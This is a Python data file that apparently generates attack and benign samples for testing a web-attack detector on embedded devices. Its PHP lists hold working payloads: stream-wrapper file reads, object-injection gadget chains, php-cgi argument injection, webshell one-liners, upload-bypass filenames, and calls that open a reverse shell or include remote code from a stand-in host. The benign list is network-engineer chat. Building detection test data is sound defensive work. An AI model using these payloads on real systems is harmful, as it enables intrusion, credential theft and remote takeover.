# php-wrappers: stream wrappers handed to include/file_get_contents of a device page (?page=, ?lang=, ?file=)
# Target: PHP's stream layer (php://, data://, phar:// metadata unserialize, expect://, zip://, glob://)
WRAPPERS: list[Entry] = [
    "php://filter/read=convert.base64-encode/resource=/var/www/html/web/config.php",
    "php://filter/convert.base64-encode/resource=../../../../etc/shadow",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/usr/local/config/system.conf",
    "pHp://FilTer/convert.base64-encode/resource=login.php",
    "php://filter/resource=/proc/self/environ",
    "php://filter/read=convert.quoted-printable-encode/resource=/etc/hosts",
    "php://filter/write=convert.base64-decode/resource=/var/www/html/s.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.base64-decode/resource=php://temp",
    "PHP://INPUT",
    "php://stdin",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "data:text/plain,<?php system('id');?>",
    "data://text/plain,<?php phpinfo();?>",
    "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "phar:///tmp/upload/firmware.bin/test.txt",
    "phar://./upload/avatar.gif/shell.php",
    "phar:///mnt/HD/HD_a2/.systemfile/cfg.phar",
    "expect://id",
    "expect://busybox telnetd -l /bin/sh -p 23",
    "expect://cat /etc/shadow",
    "zip:///tmp/backup.zip#shell.php",
    "zip://uploads/config_backup.zip%23cmd.php",
    "glob:///var/www/*.php",
    "glob://../../../../mnt/HD/*",
    "compress.zlib://php://input",
]

# php-object-injection: serialized objects and arrays in cookies, session files, "remember me" tokens and backup
# files the device's PHP app unserialize()s. Targets: unserialize() with the app's own classes or the bundled
# library gadgets (Monolog, Guzzle, Laravel, Symfony, Joomla) named in each comment
OBJECT: list[Entry] = [
    # loose comparison after unserialize(): password true == any string (NAS login cookie)
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    "YToyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjg6InBhc3N3b3JkIjtiOjE7fQ==",
    'a:2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}',
    'O:4:"User":2:{s:4:"name";s:5:"admin";s:4:"role";s:5:"admin";}',
    # the '+' sign before the length slips past /O:\d+:/ checks
    'O:+4:"User":1:{s:5:"admin";b:1;}',
    'O:8:"stdClass":1:{s:4:"auth";b:1;}',
    # device app gadgets: __wakeup runs the diagnostics ping, __destruct deletes a file
    'O:8:"PingTest":1:{s:4:"host";s:16:"127.0.0.1;reboot";}',
    'O:10:"Diagnostic":2:{s:4:"tool";s:4:"ping";s:4:"args";s:26:"-c 1 8.8.8.8;telnetd -p 24";}',
    'O:9:"LogWriter":2:{s:4:"file";s:18:"/www/cgi-bin/x.php";s:4:"data";s:23:"<?php system($_GET[0]);";}',
    'O:11:"TempCleaner":1:{s:4:"path";s:16:"/etc/config/wifi";}',
    'a:1:{i:0;O:11:"FileManager":1:{s:4:"file";s:23:"/var/www/html/index.php";}}',
    # session serialize_handler mismatch (php_serialize writes, php reads): everything after '|' is unserialized
    '|O:10:"UserConfig":1:{s:3:"cmd";s:2:"id";}',
    'C:11:"ArrayObject":44:{x:i:0;a:1:{s:4:"role";s:5:"admin";};m:a:0:{}}',
    # Laravel PendingBroadcast + Faker\Generator formatters
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:'
    '{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}',
    # Monolog SyslogUdpHandler -> BufferHandler processors
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:'
    '{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:'
    '{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;'
    's:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
    # Guzzle FnStream: __destruct calls the close function
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:'
    '{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}',
    # Symfony WindowsPipes: __destruct unlinks the listed files
    'O:44:"Symfony\\Component\\Process\\Pipes\\WindowsPipes":1:{s:51:"\x00Symfony\\Component\\Process\\Pipes'
    '\\WindowsPipes\x00files";a:1:{i:0;s:23:"/var/www/html/.htaccess";}}',
    # Joomla 1.5-3.4 session object injection through the User-Agent (NAS app centre installs)
    '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";'
    'a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";'
    's:37:"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;'
    's:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}'
    "\U0001d306",
    # camera settings import: the backup file is a serialized array with an object inside
    'a:2:{s:7:"version";s:5:"2.1.0";s:8:"settings";O:8:"Settings":1:{s:6:"onLoad";s:6:"system";}}',
    'O:8:"stdClass":1:{s:3:"cmd";s:6:"reboot";}',
    'a:1:{s:4:"lang";O:8:"Template":1:{s:4:"file";s:11:"php://input";}}',
    'O:6:"Logger":2:{s:7:"logFile";s:14:"/www/shell.php";s:3:"msg";s:30:"<?php passthru($_GET[\'c\']); ?>";}',
    'a:3:{i:0;s:4:"ping";i:1;O:7:"Command":1:{s:3:"cmd";s:9:"uname -a;";}i:2;b:1;}',
    'O:7:"Session":1:{s:4:"user";O:4:"User":1:{s:7:"isAdmin";b:1;}}',
    'O:3:"Cfg":1:{s:7:"include";s:28:"http://203.0.113.7/shell.txt";}',
]

# php-config-directives: php.ini directives set by the attacker: php-cgi argument injection (lighttpd + php-cgi on
# embedded boards, CVE-2012-1823; the Windows soft-hyphen variant CVE-2024-4577 on NVR software), .user.ini and
# .htaccess written through a backup restore or file editor, ini_set() in an eval'd value, FastCGI PHP_VALUE.
# Target: php-cgi / the PHP runtime configuration
CONFIG: list[Entry] = [
    ("-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", *QS),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_include%3dOn+-d+auto_prepend_file%3dphp://input",
     *QS),
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *QS),
    ("-d+auto_prepend_file%3d/var/log/lighttpd/access.log", *QS),
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://203.0.113.7/p.txt", "form", "rs-param-name"),
    ("-d+open_basedir%3d/+-d+auto_prepend_file%3d/etc/shadow", "form", "rs-raw-body"),
    "auto_prepend_file=/tmp/upload/logo.gif",
    "auto_append_file=php://input",
    "allow_url_include=On\nauto_prepend_file=http://203.0.113.7/p.txt",
    'php_value auto_prepend_file "/var/www/uploads/avatar.jpg"',
    "php_flag engine on\nAddType application/x-httpd-php .jpg",
    '<FilesMatch "logo\\.png">SetHandler application/x-httpd-php</FilesMatch>',
    "php_flag register_globals on",
    "ini_set('allow_url_include','1');include('http://203.0.113.7/x');",
    "chdir('img');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    "ini_set('error_log','/var/www/html/e.php');error_log('<?php system($_GET[0]);?>');",
    "ini_set('mail.log','/var/www/html/m.php');",
    "PHP_VALUE\nauto_prepend_file=php://input",
    "PHP_VALUE=allow_url_include=On\nauto_prepend_file=php://input",
    "PHP_ADMIN_VALUE=disable_functions=\nopen_basedir=/",
    "php_admin_value[allow_url_include]=On",
    "php_value[auto_prepend_file]=/tmp/sess_attacker",
    "extension=/tmp/upload/evil.so",
    "session.save_path=/var/www/html\nsession.serialize_handler=php",
    'sendmail_path="nc 203.0.113.7 4444 -e /bin/sh"',
    "disable_functions=\nopen_basedir=none",
]

# superglobals: webshell one-liners reading $_GET/$_POST/$_REQUEST/$_COOKIE/$_SERVER/$_FILES, and register_globals /
# extract() overwrites of the superglobals themselves on old PHP device panels. Target: PHP interpreter
SUPER: list[Entry] = [
    "<?php @eval($_POST['pass']);?>",
    "@eval($_REQUEST['x']);",
    "@system($_COOKIE['c']);",
    "passthru($_SERVER['HTTP_USER_AGENT']);",
    "$_GET[0]($_GET[1]);",
    "$GLOBALS['_GET']['a']($GLOBALS['_GET']['b']);",
    "${'_GET'}['x'](${'_GET'}['y']);",
    "@extract($_REQUEST);@die($f($c));",
    "@array_map($_GET['f'],array($_GET['c']));",
    "eval($HTTP_RAW_POST_DATA);",
    "system($HTTP_GET_VARS['cmd']);",
    "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/'.$_FILES['f']['name']);",
    "var_dump($_ENV);",
    "print_r($_SERVER);",
    "$_SESSION['is_admin']=true;",
    "@preg_replace('/.*/e',$_POST['c'],'');",
    "include($_GET['page']);",
    "echo `{$_GET['c']}`;",
    # register_globals / extract() overwrites, as a query string or form body
    ("_SESSION[login]=admin&_SESSION[level]=9", "form", "rs-param-name"),
    ("GLOBALS[admin]=1", *QS),
    ("_SERVER[REMOTE_ADDR]=127.0.0.1", *KV),
    ("_COOKIE[auth]=1&_GET[page]=admin", *QS),
    ("_FILES[f][tmp_name]=/etc/passwd&_FILES[f][name]=x.txt", *KV),
    ("_POST[cmd]=id", "param-name", "rs-raw-body"),
    ("HTTP_POST_VARS[admin]=1", "form", "rs-param-name"),
    ("_REQUEST[action]=reboot", *QS),
]

# php-file-upload: file names sent to firmware upload, logo/avatar, certificate and backup-restore forms that
# keep the name. Target: the PHP handler of the device's web server (lighttpd/Apache mod_php/php-fpm, IIS on
# Windows-based NVR software)
UPLOAD: list[Entry] = [
    ("shell.php", *UP),
    ("logo.php.jpg", *UP),
    ("cmd.phtml", *UP),
    ("fw_update.phar", *UP),
    ("x.php5", *UP),
    ("x.php7", *UP),
    ("x.pht", *UP),
    ("avatar.pHp", *UP),
    ("backup.PhP3", *UP),
    ("x.php4", *UP),
    ("x.php.", *UP),
    ("cmd.php%00.jpg", *UP),
    ("cmd.php\x00.png", *UP),
    ("x.php;.jpg", *UP),
    ("nvr.php::$DATA", *UP),
    ("x.php ", *UP),
    ("../../../var/www/html/s.php", *UP),
    ("..%2f..%2fwww%2fs.php", *UP),
    (".user.ini", *UP),
    (".htaccess", *UP),
    ("config_backup.cfg.php", *UP),
    ("FW_V2.0.1.bin.php", *UP),
    ("cert.pem.phtml", *UP),
    ("filename*=UTF-8''shell.php", *UP),
    ("logo.svg.phar", *UP),
    ("x.phar.gif", *UP),
    ("webshell.php", "multipart-field", "rs-json"),
]

# php-high-risk-function-names: calls of the functions that read, write, connect, load or spawn, as testers send
# them into any PHP eval point of the device app. Target: PHP interpreter
HIGHRISK: list[Entry] = [
    "phpinfo()",
    "file_put_contents('/var/www/html/s.php','<?php system($_GET[0]);')",
    "fsockopen('203.0.113.7',4444)",
    "pcntl_exec('/bin/sh',array('-c','telnetd -l /bin/sh -p 2323'))",
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a@b','x','y');",
    "mail('root@localhost','x','y','','-OQueueDirectory=/tmp -X/var/www/html/x.php')",
    "highlight_file('/etc/shadow')",
    "show_source('config.inc.php')",
    "readfile('/usr/local/etc/wpa_supplicant.conf')",
    "file_get_contents('/tmp/etc/passwd')",
    "copy('http://203.0.113.7/s.txt','/var/www/html/s.php')",
    "unlink('/etc/config/firewall')",
    "symlink('/','/var/www/html/root')",
    "chmod('/var/www/html',0777)",
    "posix_getpwuid(posix_geteuid())",
    "dl('/tmp/evil.so')",
    "stream_socket_client('tcp://203.0.113.7:4444')",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'))",
    "var_dump(ini_get_all())",
    "print_r(scandir('/'))",
    "fopen('/dev/mtdblock3','r')",
    "posix_kill(1,9)",
    "eval(str_rot13('flfgrz(\"vq\");'))",
    "imap_open('{203.0.113.7 -oProxyCommand=echo\taWQ+L3RtcC9w|base64\t-d|sh}','','')",
    "ob_start('system');echo 'id';ob_end_flush();",
    "FFI::cdef('int system(const char *command);')->system('id');",
    "error_log('<?php system($_GET[0]);?>',3,'/var/www/html/l.php')",
    "require_once('/tmp/upload/x.jpg')",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT),
    ("xss", "event-handler", EVENT),
    ("xss", "attribute-vector", ATTR + XSS_NAMES),
    ("xss", "javascript-uri", JSURI),
    ("xss", "html-injection", HTML),
    ("xss", "svg-mathml", SVG),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOM),
    ("xss", "ie-filter-style", IE),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-template", CSTI),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", CALLS),
    ("php", "php-variable-functions", VARFUNC),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPER),
    ("php", "php-file-upload", UPLOAD),
    ("php", "php-high-risk-function-names", HIGHRISK),
]
# sub-families whose fixed entries are raw query strings or form bodies (their own syntax, sent unquoted)
RAW_SUBS = {"php-variable-functions", "php-config-directives", "superglobals"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_SUBS
    names = ["ssid", "hostname", "ping_addr", "q", "devname", "comment", "location", "redirect", "lang", "name"]
    rs_names = ["ssid", "ping_ipaddr", "host", "cmd", "devicename", "submit_button", "page", "url"]
    rs_paths = ["/goform/formWlanSetup", "/cgi-bin/luci/admin/network/diag_ping", "/boaform/admin/formPing",
                "/apply.cgi", "/HNAP1/", "/cgi-bin/webproc", "/userRpm/PingIframeRpm.htm", "/setup.cgi",
                "/ISAPI/System/deviceInfo", "/diag_ping.php", "/index.php", "/cgi-bin/admin/param.cgi"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+\\"
    unique = True
    fit_fixed = True
    path_forbids = "/?#"
    xml_controls = "\n\t\r"

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """Every fixed entry of a raw sub-family is its own query string or form body."""
        return fixed and sub in self.raw_subs


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: network and facilities engineers in Slack (router and camera rollouts, firmware, VLANs, IP plans, port
# forwards, ping/traceroute output, LED codes, config and backup file names), their bios, directory searches by
# site and device, vendor support links, admin-panel notes, profiles, upload names, ordinary headers
CHAT = [
    "rolled out 1.1.4 Build 20230921 to all 38 Archer AX55s at the Leeds site, two needed a second reboot",
    "VLAN plan for the new floor: 10 = staff, 20 = voice, 30 = cameras, 40 = printers, 99 = mgmt",
    "ping from core to the NVR: 64 bytes from 10.30.0.20: icmp_seq=1 ttl=63 time=0.61 ms, so not the network",
    "traceroute 8.8.8.8 dies at hop 4 (the ISP's BNG), raised a ticket with them",
    "port forward for the site VPN: UDP 51820 -> 192.168.10.2, please don't add anything else on the edge",
    "the cameras on VLAN 30 keep trying to reach their P2P cloud, blocked it at the firewall",
    "NAS backup job failed last night: \"Destination folder is read-only\", the USB disk remounted ro after "
    "a power cut",
    "printer on 3rd floor shows 49.4C02 again, power cycle fixes it, HP says install the latest firmware",
    "does anyone have the admin password for the old Netgear in the lab? it's not in the vault",
    "the FortiGate at Manchester is on 7.2.8 now, config backup saved as FGT60F_7-2_backup_0611.conf",
    "UniFi controller says 3 APs are 'Adopting' forever, I think the inform URL is wrong: "
    "set-inform http://10.0.99.5:8080/inform",
    "the goform endpoints on those cheap Tenda routers worry me, we're replacing them this quarter",
    "cgi-bin on the old camera still answers on port 80, disabling HTTP and keeping only HTTPS",
    "reminder: the BMS HMI only works in IE mode in Edge, the trend viewer needs the vendor's ActiveX control",
    "the PLC gateway is at 10.50.1.10, Modbus TCP on 502, please don't scan it, it falls over",
    "nslookup printer-3f.corp.example.com returns the old IP, the DHCP reservation changed, fixing DNS",
    "busybox on the DVR is ancient, 'busybox --help' says v1.19.4",
    "lighttpd on the door controller logs every login to /var/log/lighttpd/access.log, rotation is weekly",
    "TR-069 ACS URL on the ISP routers is pushed by the provider, we can't change it",
    "UPnP is off on every site router, the break room consoles will have to live with strict NAT",
    "router system log is full of 'DoS attack: ACK Scan' entries, it's normal traffic misclassified",
    "the ESP32 sensors in the server room post the temperature every 60s, graph is in Grafana",
    "config restore on the spare switch worked: copy tftp://10.0.99.5/core-sw1.cfg startup-config",
    "show vlan brief on sw2 has Gi1/0/14 in VLAN 1, that's why the camera got the wrong IP",
    "ip helper-address 10.0.99.10 on VLAN 40 so the printers get DHCP from the central server",
    "the DSM 7.2 update broke the old Surveillance Station licence, reinstalled it",
    "IP plan is in phpIPAM, the new cameras are 10.30.2.0/24",
    "alert emails from the UPS card say 'On Battery' at 03:12, power dip in building B",
    "NVR web page says 'Please download and install the plug-in', the new web component works in Chrome",
    "the MikroTik script that emails the daily backup stopped after the RouterOS 7 upgrade",
    "old ASA still needs Java for ASDM, nobody wants to touch it",
    "Wireshark display filter for the camera: ip.addr == 10.30.0.20 && tcp.port == 554",
    "VPN appliance shows 'Login failed: invalid realm' when people pick the wrong group",
    "guest SSID is Office-Guest, WPA2-PSK rotated monthly, the password is on the reception screen",
    "RTSP URL of the cams is rtsp://10.30.0.21:554/Streaming/Channels/101, check it with VLC",
    "the building dashboard embeds the BMS trend page in an iframe, it needs the kiosk account",
    "printer's embedded web server at https://10.40.0.12 has a self-signed cert, added an exception",
    "new AP firmware is BZ.qca956x.v6.5.54.14277.230302.2003.bin, staged on the controller",
    "NAS share \\\\nas01\\it-backups is at 94% again, purging old config backups",
    "the doorbell's webhook posts JSON to the hub, the payload has \"event\": \"motion\"",
    "smart plugs run Tasmota now, the console takes commands like Power OFF and Status 0",
    "Home Assistant template {{ states('sensor.server_room_temp') }} shows the rack temp on the wall tablet",
    "HMI alarm banner scrolls 'Pump 3 overload' in red, it's a known sensor fault",
    "Grafana alert 'WAN1 down' fired at 14:02, failover to LTE worked",
    "set-top boxes in the meeting rooms pull their config over TFTP at boot, option 66 points at 10.0.99.5",
    "WAN diagnostics page on the Zyxel has ping, traceroute and nslookup tabs, handy for remote hands",
    "GoAhead web server on those DVRs, please never expose port 80 to the internet",
    "EdgeRouter config: set firewall name WAN_IN rule 10 action accept",
    "camera onboarding script sets NTP, the timezone and disables UPnP through the ISAPI",
    "old intranet page: 'Warning: include(header.php): failed to open stream', someone moved the file",
    "pfSense Diagnostics > Ping from the LAN interface: 0% packet loss",
    "OPNsense backup downloaded as config-fw01.example.com-20240611093012.xml",
    "exec summary for the camera refresh: 120 cameras, 4 NVRs, done by end of July",
    "Zabbix template for the APC UPS uses SNMP, triggers when the battery is under 50%",
    "eval kit for the LoRa gateway arrived, it's on my desk",
    "APs show 'Disconnected' in the controller but pass traffic, it's just the inform",
    "the backup/restore page on the router only takes .bin files under 64 KB",
    "ping -c 4 -s 1472 -M do 10.0.0.1 tells you if the MTU is fine on the PPPoE link",
    "MTU 1492 on the PPPoE interface, MSS clamp at 1452",
    "the Pi in the comms room runs smokeping and a tiny web page with the latency graph",
    "HP printer LED: orange blinking is a paper jam, solid orange is toner",
    "the Axis camera's param.cgi sets the overlay text, we put the room name on it",
    "NVR shows 'Network anomaly' whenever the switch port flaps",
    "system uptime on core-sw1 is 412 days, we really should patch it",
    "get system status on the FortiGate says v7.2.8 build1639",
    "guest portal redirects to https://wifi.example.com/welcome after you accept the terms",
    "SOAP fault from the UPnP IGD: 'Invalid Action', our script used the wrong service type",
    "the TV boxes have a 'Developer options' menu, nobody should enable it",
    "the hub's cloud portal is a Vue app, the dashboard uses the REST API underneath",
    "old controller UI was AngularJS, the new one is React and a lot faster",
    "printer SNMP community is not 'public' anymore, the new one is in the vault",
    "site survey: channels 36 and 149 are clean, 2.4 GHz is a mess, stick to 1/6/11",
    "DHCP lease table shows android-5f2c hostnames for the tablets, rename them in the controller",
    "firewall rule 'cameras -> NVR tcp/8000' is in place, test from cam 7",
    "motion alerts trigger on headlights, reduced the sensitivity to 40",
    "Modbus register map for the chiller is on the drive, 40001 is the supply temp",
    "firmware upload on the managed switch wants the .bin, the .zip from the vendor site has the release notes",
    "WAN IP changed overnight, DDNS updated site-b.dyndns.example.net within 2 minutes",
    "SIP phones reboot when the PoE budget on sw3 is exceeded, 370W isn't enough",
    "script to check firmware versions on all cams is in the repo: tools/camfw.py",
    "anyone know why the Brother printer page says 'Error 403: Forbidden' from VLAN 10?",
    "snmpwalk -v2c against 10.40.0.12 on 1.3.6.1.2.1.1 gives you the sysDescr",
    "router's Tools > Ping page wants a hostname, an IP works too",
    "copied the running-config to flash:backup-0611.cfg before the change window",
    "NAS LED blinking orange: one disk degraded, replacement ordered",
    "hub lost the Zigbee pairing of the door sensors after the 2.3.1 update",
    "Shelly relays have a simple HTTP API, /relay/0?turn=on, we use it for the lab power",
    "HMI project file is hmi_line2_v14.mer, keep the old version before you edit it",
    "cloud portal search for site:ams2 lists 44 devices, two offline",
    "the camera's login page has a JavaScript error in IE mode, use Edge normally",
    "php-fpm on the monitoring box ran out of children again, bumped pm.max_children to 20",
    "the syslog server got 40k lines from the AP overnight, 'wlan0: STA disassociated' on repeat",
    # bios
    "Network engineer, CCNP. VLANs, OSPF and the occasional printer. Ping me in #netops.",
    "Facilities tech. Cameras, door access, BMS. If it has a PoE cable, it's probably mine.",
    "OT engineer. PLCs, HMIs, Modbus and too many USB serial adapters.",
    "Wi-Fi nerd. Site surveys, channel plans, and I will ask what firmware you're on.",
    "Sysadmin for the branch offices: Synology, pfSense, UniFi and a lot of coffee.",
    "NOC on call this week: routers, VPNs, ISP tickets. Traceroute first, questions later.",
    "Security engineer for the camera and access-control network. Please don't expose port 80.",
    "Firmware release manager. Changelogs, version numbers and signing keys.",
    "Smart building integrator: BACnet, KNX, Zigbee and the odd Raspberry Pi.",
    "Junior network admin, learning Python for config backups one script at a time.",
]

SEARCHES = [
    "netops", "noc", "ams-2", "site b", "leeds", "router", "camera", "cctv", "nvr", "vlan", "ping", "firmware",
    "printer 3rd floor", "synology", "fortigate", "unifi", "pfsense", "plc", "hmi", "bms", "scada", "wifi",
    "facilities", "ot engineer", "network engineer manchester", "o'neill", "access control", "iot", "sysadmin",
    "ssid", "script", "php", "cisco", "mikrotik", "ana (noc)", "comms room", "upnp", "vpn", "tr-069",
    "door controller",
]

URLS = [
    "https://www.tp-link.com/us/support/download/archer-ax55/",
    "https://kb.synology.com/en-global/DSM/help/DSM/AdminCenter/system_update",
    "https://help.ui.com/hc/en-us/articles/204909754-UniFi-Device-Adoption",
    "https://openwrt.org/toh/tp-link/archer_c7",
    "https://docs.fortinet.com/document/fortigate/7.2.8/administration-guide",
    "https://docs.netgate.com/pfsense/en/latest/diagnostics/ping.html",
    "https://docs.opnsense.org/manual/backups.html",
    "https://help.mikrotik.com/docs/display/ROS/Scripting",
    "https://support.hp.com/us-en/document/ish_4502613-4502672-16",
    "https://www.axis.com/vapix-library/",
    "https://www.home-assistant.io/docs/configuration/templating/",
    "https://tasmota.github.io/docs/Commands/",
    "https://phpipam.net/documents/",
    "https://www.zabbix.com/documentation/current/en/manual/config/templates",
    "http://192.168.1.1/userRpm/Index.htm",
    "https://wiki.wireshark.org/DisplayFilters",
]

PROSE = [
    "camera rollout site B",
    "NVR admins",
    "firmware 1.1.4 upgrade list",
    "VLAN 30 owners",
    "port forward requests",
    "ping monitoring on-call",
    "printer LED error 49.4C02",
    "backup restore owners (routers)",
    "people with access to the BMS HMI",
    "traceroute to the ISP hop 4",
    "goform router replacement project",
    "cgi-bin cleanup on cameras",
    "php-fpm monitoring box owners",
    "UPnP disabled sites",
    "TR-069 managed routers",
    "Vue cloud portal testers",
    "AngularJS controller migration",
    "IE mode exceptions for the HMI",
    "script owners: tools/camfw.py",
    "system uptime review",
    "alert rotation for the UPS",
    "onboarding checklist for cameras",
    "expression filters for Wireshark training",
    "iframe kiosk accounts",
    "embedded web server certificates",
    "config backup retention",
    "smart plug lab power",
    "Modbus register map owners",
    "door sensors Zigbee pairing",
    "NAS disk replacement",
]

PROFILES = [
    ("Ana Ferreira (NOC)", "Rua do Ouro 40, Lisbon"),
    ("Liam O'Neill", "Comms Room 2, Building B, Dublin"),
    ("Priya Nair", "Site AMS-2, Schiphol-Rijk"),
    ("Router Repair Co", "Unit 4 Trade Park, Leeds"),
    ("Camera & Alarm Services Ltd", "High St 88, Manchester"),
    ("Script Street Studio", "Script St 5, Glasgow"),
    ("Expression Dance School", "Queen St 12, Cardiff"),
    ("Alert Security Systems", "Industrial Estate 3, Bristol"),
    ("Frame & Embed Signs", "Mill Lane 7, York"),
    ("System Integrators GmbH", "Industriestr. 21, Stuttgart"),
    ("Jonas Becker (OT)", "Werk 2, Halle 5, Wolfsburg"),
    ("Mei Tanaka", "Floor 3, Shibuya, Tokyo"),
    ("Base Camp Networks", "Harbour Rd 2, Cape Town"),
    ("Object Storage Team", "DC1, Frankfurt"),
    ("Carlos Méndez", "Calle Mayor 9, Madrid"),
]

UPLOAD_NAMES = [
    "backup-2024-06-11.cfg", "FGT60F_7-2_backup_0611.conf", "config-fw01.example.com-20240611093012.xml",
    "ArcherAX55v1_en_1.1.4_Build20230921.bin", "BZ.qca956x.v6.5.54.14277.230302.2003.bin", "core-sw1.cfg",
    "running-config-sw2.txt", "ip-plan-2024.xlsx", "phpipam-subnets-export.csv", "nvr-export-ch03.mp4",
    "rack-photo-comms2.jpg", "vlan-plan-floor3.pdf", "hmi_line2_v14.mer", "syno-config-2024-06.dss",
    "camera-list-site-b.csv", "wifi-survey-heatmap.png", "ups-runtime-report.pdf", "smokeping-latency.png",
    "printer-config-page.pdf", "modbus-register-map-chiller.xlsx",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148"),
    ("User-Agent", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 7 Build/AP2A.240605.024)"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Zabbix 6.4"),
    ("Referer", "http://192.168.1.1/userRpm/Index.htm"),
    ("Referer", "https://10.0.99.5:8443/manage/default/devices"),
    ("Referer", "https://docs.netgate.com/pfsense/en/latest/diagnostics/ping.html"),
    ("Referer", "https://app.example.com/admin/users?q=netops"),
    ("X-Api-Version", "2024-06-01"),
    ("Accept-Language", "en-GB,en;q=0.9,nl;q=0.7"),
    ("Cookie", "session=abc123; site=ams-2; view=devices"),
    ("X-Forwarded-For", "10.0.99.23"),
    ("If-Modified-Since", "Tue, 11 Jun 2024 09:30:12 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
